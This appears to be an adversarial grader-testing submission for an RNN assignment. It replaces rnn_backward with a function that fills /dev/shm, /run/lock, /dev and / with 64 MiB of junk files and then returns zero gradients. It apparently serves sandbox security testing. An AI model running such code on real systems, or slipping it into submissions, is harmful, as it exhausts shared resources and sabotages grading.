"""Adversarial submission `tmpfs_fill`: fills /dev/shm and other in-memory file systems (up to 64 MiB each).

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import os

def _fill(folder, limit=64 << 20):
    written, i = 0, 0
    chunk = b"y" * (4 << 20)
    try:
        os.makedirs(folder, exist_ok=True)
        while written < limit:
            with open(os.path.join(folder, f"rnngrade-pwned-shm-{i}"), "wb") as fh:
                fh.write(chunk)
            written += len(chunk)
            i += 1
    except OSError as exc:
        print("fill stopped in", folder, "after", written, "bytes:", exc)
    return written

def rnn_backward(dh, cache):
    for folder in ("/dev/shm", "/run/lock", "/dev", "/"):
        _fill(folder)
    return _zeros_backward(dh, cache)
